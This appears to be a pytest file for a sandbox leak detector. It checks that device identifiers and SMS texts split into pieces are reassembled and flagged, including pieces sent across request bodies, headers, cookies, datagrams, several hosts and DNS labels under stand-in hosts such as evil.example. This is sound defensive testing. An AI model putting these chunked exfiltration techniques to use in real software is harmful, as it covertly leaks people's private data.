"""Canaries sent in pieces are put together again, and nothing is made of what is no piece."""

import base64
import gzip
import json
import random
import struct
import time
import uuid
import zlib
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from owner import Blobs, owner
from sending import bare, cut, request, shuffled

from sandbox.detect.assemblies import REGISTRY
from sandbox.detect.assemblies.reference import reference
from sandbox.detect.match import Detection
from sandbox.detect.matcher import Matcher
from sandbox.gateway.flow import Channel, Flow
from sandbox.persona.model import DataClass, Persona


def detected(matcher: Matcher, flows: list[Flow], blobs: Blobs) -> Detection:
    return matcher.detect(flows, [], blobs)


def found(matcher: Matcher, flows: list[Flow], blobs: Blobs) -> set[tuple[str, str, float]]:
    """Class of data, first step of the chain and share of the value, of every match."""
    return {
        (m.data_class.value, m.chain[0] if m.chain else "", m.covered)
        for m in detected(matcher, flows, blobs).matches
    }


_BODIES: dict[str, Callable[[int, str], bytes]] = {
    "json": lambda n, d: json.dumps({"seq": n, "ts": 1780000000 + n * 7, "d": d}).encode(),
    "form": lambda n, d: f"part={n}&total=9&data={quote(d)}&t=1780000{n:03}".encode(),
    "gzip": lambda n, d: gzip.compress(json.dumps({"meta": {"chunk": n}, "payload": [d]}).encode()),
    "xml": lambda n, d: f"<r><idx>{n}</idx><data>{d}</data></r>".encode(),
    "multipart": lambda n, d: (
        f'--b\r\nContent-Disposition: form-data; name="f"; filename="c-{n:03}.bin"\r\n\r\n{d}\r\n--b--\r\n'
    ).encode(),
    "bare": lambda n, d: f"[{n}/9] {d}".encode(),
}


@pytest.mark.parametrize("notation", sorted(_BODIES))
@pytest.mark.parametrize("numbered", [True, False])
def test_an_imei_in_pieces_of_bodies_is_found(
    notation: str, numbered: bool, matcher: Matcher, persona: Persona
) -> None:
    blobs, pieces = Blobs(), cut(persona.identity.imei.encode(), 5)
    order = [2, 0, 1] if numbered else [0, 1, 2]
    flows = [
        request(blobs, at, body=_BODIES[notation](number, pieces[number].decode()))
        for at, number in enumerate(order, 1)
    ]
    matches = detected(matcher, flows, blobs).matches
    assert [(m.data_class, m.covered) for m in matches] == [(DataClass.IMEI, 1.0)]
    assert {part.flow_id for part in matches[0].parts} == {1, 2, 3}


@pytest.mark.parametrize("size", [3, 5])
def test_an_imei_sent_from_its_end_is_found(size: int, matcher: Matcher, persona: Persona) -> None:
    blobs, pieces = Blobs(), cut(persona.identity.imei.encode(), size)
    flows = [
        request(blobs, at, f"https://collect.example/t?p={piece.decode()}")
        for at, piece in enumerate(reversed(pieces), 1)
    ]
    assert {told[0] for told in found(matcher, flows, blobs)} == {"imei"}


def test_every_part_of_a_match_points_into_stored_bytes(matcher: Matcher, persona: Persona) -> None:
    blobs, imsi = Blobs(), persona.identity.imsi.encode()
    flows = [request(blobs, at, body=b'{"v":"%s"}' % piece) for at, piece in enumerate(cut(imsi, 5), 1)]
    (match,) = detected(matcher, flows, blobs).matches
    places = [blobs[p.payload][p.byte_range.start : p.byte_range.end] for p in match.parts]
    assert b"".join(places) == imsi
    assert (match.flow_id, match.payload, match.byte_range) == (
        match.parts[0].flow_id,
        match.parts[0].payload,
        match.parts[0].byte_range,
    )


def test_pieces_in_parameters_paths_headers_and_cookies_are_put_together(
    matcher: Matcher, persona: Persona
) -> None:
    pieces = [piece.decode() for piece in cut(persona.identity.imei.encode(), 5)]
    shapes: dict[str, Callable[[Blobs, int, str], Flow]] = {
        "query": lambda b, n, d: request(b, n, f"https://c.example/p?i={n}&q={d}", method="GET"),
        "path": lambda b, n, d: request(b, n, f"https://c.example/p/{d}/pixel.gif", method="GET"),
        "header": lambda b, n, d: request(b, n, headers=[("X-Trace", d)]),
        "cookie": lambda b, n, d: request(b, n, headers=[("Cookie", f"lang=de; sid={d}")]),
    }
    for name, shape in shapes.items():
        blobs = Blobs()
        flows = [shape(blobs, at, piece) for at, piece in enumerate(pieces, 1)]
        assert {c for c, _, _ in found(matcher, flows, blobs)} == {"imei"}, name


def test_numbered_fields_of_one_request_are_put_together(matcher: Matcher, persona: Persona) -> None:
    one, two, three = (piece.decode() for piece in cut(persona.identity.imei.encode(), 5))
    for body in (
        json.dumps({"p3": three, "p1": one, "p2": two}),
        json.dumps({"chunks": [one, two, three]}),
        json.dumps([{"n": 2, "d": two}, {"n": 3, "d": three}, {"n": 1, "d": one}]),
        f"x1={one}&x3={three}&x2={two}",
    ):
        blobs = Blobs()
        assert {c for c, _, _ in found(matcher, [request(blobs, 1, body=body.encode())], blobs)} == {"imei"}


@pytest.mark.parametrize("size", [7, 20, 33])
@pytest.mark.parametrize("code", ["plain", "per piece", "whole", "packed"])
def test_a_long_text_in_shuffled_pieces_is_found_in_full(
    code: str, size: int, matcher: Matcher, persona: Persona
) -> None:
    blobs, text = Blobs(), persona.sms[2].body.encode()
    data = {"whole": base64.b64encode(text), "packed": base64.b64encode(gzip.compress(text))}.get(code, text)
    pieces = cut(data, size)
    if code == "per piece":
        pieces = [base64.b64encode(piece) for piece in pieces]
    flows = [
        request(blobs, at, body=b'{"part":%d,"d":"%s"}' % (number, pieces[number]))
        for at, number in enumerate(shuffled(len(pieces)), 1)
    ]
    assert ("sms_body", "fields", 1.0) in found(matcher, flows, blobs)


def test_binary_chunks_of_one_archive_are_put_together_and_not_unreadable(
    matcher: Matcher, persona: Persona
) -> None:
    blobs = Blobs()
    text = json.dumps([sms.body for sms in persona.sms]) + random.Random(1).randbytes(900).hex()
    pieces = cut(gzip.compress(text.encode()), 300)
    flows = [
        request(
            blobs, at, headers=[("Content-Range", f"bytes {n * 300}-{n * 300 + 299}/9999")], body=pieces[n]
        )
        for at, n in enumerate(shuffled(len(pieces)), 1)
    ]
    detection = detected(matcher, flows, blobs)
    assert len({m.record for m in detection.matches if m.covered == 1.0}) == len(persona.sms)
    assert detection.opaque == ()


@pytest.mark.parametrize("head", ["!H", "<I", "!BBH", "text"])
def test_datagrams_out_of_order_are_put_together_by_their_numbers(
    head: str, matcher: Matcher, persona: Persona
) -> None:
    blobs, pieces = Blobs(), cut(gzip.compress(persona.sms[1].body.encode()), 20)

    def packet(number: int) -> bytes:
        if head == "text":
            return b"%d|" % number + pieces[number]
        return struct.pack(head, *([0x80, 0x60][: len(head) - 2]), number) + pieces[number]

    flows = [bare(blobs, at, packet(number)) for at, number in enumerate(shuffled(len(pieces)), 1)]
    assert found(matcher, flows, blobs) == {("sms_body", "datagrams", 1.0)}


def test_a_stream_without_a_mark_is_known_when_its_pieces_are_together(
    matcher: Matcher, persona: Persona
) -> None:
    packing = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = packing.compress(" ".join(sms.body for sms in persona.sms).encode()) + packing.flush()
    blobs, pieces = Blobs(), cut(packed, 40)
    flows = [bare(blobs, n + 1, struct.pack("!HH", n, len(pieces)) + pieces[n]) for n in range(len(pieces))]
    matches = detected(matcher, flows, blobs).matches
    assert {match.chain for match in matches} == {("datagrams", "deflate")}
    assert len({match.record for match in matches}) == len(persona.sms)


def test_pieces_to_several_hosts_are_put_together(matcher: Matcher, persona: Persona) -> None:
    blobs, pieces = Blobs(), cut(persona.identity.imei.encode(), 4)
    flows = [
        request(blobs, at, f"https://s{at}.cdn-{at}.example/c?v={piece.decode()}", method="GET")
        for at, piece in enumerate(pieces, 1)
    ]
    assert found(matcher, flows, blobs) == {("imei", "hosts", 1.0)}
    blobs = Blobs()
    datagrams = [bare(blobs, at, piece, host=f"203.0.113.{at}") for at, piece in enumerate(pieces, 1)]
    assert found(matcher, datagrams, blobs) == {("imei", "datagrams", 1.0)}


def test_pieces_in_several_texts_are_put_together(matcher: Matcher, persona: Persona) -> None:
    blobs, pieces = Blobs(), cut(persona.sms[3].body.encode(), 20)
    flows = [
        bare(blobs, at, b"%d/%d %s" % (n + 1, len(pieces), pieces[n]), Channel.SMS, "+4915112345678")
        for at, n in enumerate(shuffled(len(pieces)), 1)
    ]
    assert ("sms_body", "texts", 1.0) in found(matcher, flows, blobs)


def _lookups(blobs: Blobs, names: list[str]) -> list[Flow]:
    return [bare(blobs, at, name.encode(), Channel.DNS, name) for at, name in enumerate(names, 1)]


def test_labels_are_put_in_the_order_of_their_numbers(matcher: Matcher, persona: Persona) -> None:
    text = base64.b32encode(persona.sms[0].body.encode()).decode().rstrip("=").lower()
    pieces = [piece.decode() for piece in cut(text.encode(), 30)]
    order = shuffled(len(pieces))
    draw = random.Random(4)
    for name in (
        lambda n: f"{n}.{pieces[n]}.x.evil.example",
        lambda n: f"{pieces[n]}.{n:02x}.evil.example",
        lambda n: f"{n}-{pieces[n]}.evil.example",
        lambda n: f"{n}.{pieces[n]}.evil{n}.example",
        lambda n: "".join(draw.choice((c.upper(), c)) for c in f"{n}.{pieces[n]}.evil.example"),
    ):
        blobs = Blobs()
        names = [name(number) for number in order]
        assert found(matcher, _lookups(blobs, names), blobs) == {("sms_body", "dns-labels", 1.0)}, names[0]


def test_what_is_sent_again_each_day_is_found_once(matcher: Matcher, persona: Persona) -> None:
    blobs, pieces = Blobs(), cut(persona.identity.imei.encode(), 8)
    flows = [
        request(blobs, day * 1440 + at, body=b'{"k":"%s"}' % piece)
        for day in range(3)
        for at, piece in enumerate(pieces, 1)
    ]
    assert found(matcher, flows, blobs) == {("imei", "fields", 1.0)}


def test_two_numbers_after_another_are_both_found(matcher: Matcher, persona: Persona) -> None:
    blobs, who = Blobs(), persona.identity
    pieces = cut(who.imei.encode(), 5) + cut(who.imsi.encode(), 5)
    flows = [request(blobs, at, body=b'{"k":"%s"}' % piece) for at, piece in enumerate(pieces, 1)]
    assert {c for c, _, _ in found(matcher, flows, blobs)} == {"imei", "imsi"}


def test_one_digit_at_a_time_needs_more_than_a_telephone_number(matcher: Matcher, persona: Persona) -> None:
    for value, expected in ((persona.identity.imei, {"imei"}), (persona.contacts[0].phones[0][3:], set())):
        blobs = Blobs()
        flows = [
            request(blobs, at, f"https://c.example/p?q={digit}", method="GET")
            for at, digit in enumerate(value, 1)
        ]
        assert {c for c, _, _ in found(matcher, flows, blobs)} == expected


def test_what_one_message_has_in_full_is_not_told_again(matcher: Matcher, persona: Persona) -> None:
    blobs, imei = Blobs(), persona.identity.imei.encode()
    flows = [
        request(blobs, at, body=b'{"n":%d,"id":"%s","k":"%d"}' % (at, imei, at * 7919)) for at in range(1, 9)
    ]
    assert {chain for _, chain, _ in found(matcher, flows, blobs)} == {""}
    blobs = Blobs()
    flows = [request(blobs, 1, body=b'{"a":["%s","%s"],"id":"%s"}' % (imei[:8], imei[8:], imei))]
    assert {chain for _, chain, _ in found(matcher, flows, blobs)} == {""}


def test_pieces_of_another_owner_are_nobodys(matcher: Matcher) -> None:
    blobs, other = Blobs(), owner(9)
    data = other.model_dump_json().encode()
    flows = [
        request(blobs, at, body=json.dumps({"n": at, "d": piece.decode("latin-1")}).encode())
        for at, piece in enumerate(cut(data, 60), 1)
    ]
    assert detected(matcher, flows, blobs).matches == ()


def test_polling_accuses_nobody_and_costs_little(matcher: Matcher) -> None:
    blobs, draw = Blobs(), random.Random(3)
    flows = [
        request(
            blobs,
            hour * 60,
            f"https://api.example/v1/poll?t={1780000000 + hour * 3600}&n={hour}",
            json.dumps(
                {
                    "ts": 1780000000000 + hour * 3600_000,
                    "nonce": str(uuid.UUID(int=draw.getrandbits(128))),
                    "battery": draw.randrange(100),
                    "steps": draw.randrange(20_000),
                }
            ).encode(),
            [("X-Request-Id", draw.randbytes(16).hex())],
        )
        for hour in range(1, 73)
    ]
    begun = time.thread_time()
    detection = detected(matcher, flows, blobs)
    taken = time.thread_time() - begun
    assert (detection.matches, detection.opaque, detection.gaps) == ((), (), ())
    begun = time.thread_time()
    for flow in flows:
        matcher.matches(flow, blobs)
    assert taken < 5 * (time.thread_time() - begun)


def test_short_secrets_in_a_row_are_told_and_accuse_nobody(matcher: Matcher) -> None:
    blobs, draw = Blobs(), random.Random(8)
    flows = [
        request(blobs, at, body=b'{"d":"%s"}' % base64.b64encode(draw.randbytes(40))) for at in range(1, 40)
    ]
    detection = detected(matcher, flows, blobs)
    assert [gap.code for gap in detection.gaps] == ["opaque_series"]
    assert not any(gap.blocking for gap in detection.gaps)
    assert "https://collect.example/up (39 values)" in detection.gaps[0].message


def test_hostile_notations_take_linear_time(matcher: Matcher) -> None:
    for data in (
        b'{"' + b'\\"' * 40_000,
        b"[" * 90_000,
        b"<a>" * 30_000,
        b"a=b&" * 20_000,
        b'--x\r\nname="' * 8000,
        b"k: v\n" * 20_000,
        b'{"a":' * 15_000,
        b"0.1." * 20_000,
    ):
        blobs = Blobs()
        begun = time.thread_time()
        detected(matcher, [request(blobs, at, body=data + b"%d" % at) for at in (1, 2)], blobs)
        assert time.thread_time() - begun < 20, data[:10]


def test_names_are_distinct_and_the_reference_is_fresh() -> None:
    assert len({assembly.name for assembly in REGISTRY}) == len(REGISTRY)
    assert Path("docs/reference/assemblies.md").read_text() == reference()
